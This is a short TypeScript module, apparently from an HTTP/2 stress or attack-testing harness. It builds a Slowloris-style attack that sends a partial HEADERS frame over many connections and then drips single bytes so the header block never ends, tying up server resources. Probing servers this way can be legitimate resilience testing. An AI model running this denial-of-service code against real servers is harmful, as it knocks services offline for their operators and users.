/** Slowloris on HTTP/2: a header block that comes one byte a second and never ends. */
import { Buffer } from 'node:buffer';
import { F, frame, greeting as hello, T } from '../../support/http2-frames.ts';
import { type Attack, hold } from './attack.ts';

const BEGINNING = 12;

/** @param count of connections */
export function slowFrames(count: number): Attack {
  const beginning = frame(T.HEADERS, F.END_HEADERS, 1, Buffer.alloc(16_000)).subarray(0, BEGINNING);
  const greeting = Buffer.concat([hello(), beginning]);
  return (target, seconds, signal) => hold(target, seconds, signal, { count, greeting, drip: Buffer.from([0x82]) });
}
